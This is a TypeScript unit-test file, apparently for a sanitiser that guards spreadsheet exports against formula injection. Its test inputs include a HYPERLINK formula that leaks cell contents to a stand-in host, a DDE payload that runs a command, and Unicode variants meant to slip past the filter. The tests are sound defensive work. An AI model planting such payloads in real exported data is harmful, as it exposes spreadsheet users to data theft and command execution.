import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetText } from './spreadsheet-text';

describe('a text for a spreadsheet', () => {
  it.each([
    '=HYPERLINK("https://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '-spam',
    '@SUM(A1:A9)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tspam',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u3000＝1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '-1.5=1',
    '- 1',
  ])('is no formula: %j', (text) => expect(spreadsheetText(text)).toBe(`'${text}`));

  it.each(['', 'spam', 'not =spam', '1.5', '-1.5', '+3', '-1,5', '.5', '-2e-7', '12%', 'a@b.example', "'=1", '5-3'])(
    'stays as it is: %j',
    (text) => expect(spreadsheetText(text)).toBe(text),
  );

  it('keeps every letter of the text, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        expect([text, `'${text}`]).toContain(spreadsheetText(text));
      }),
    );
  });
});
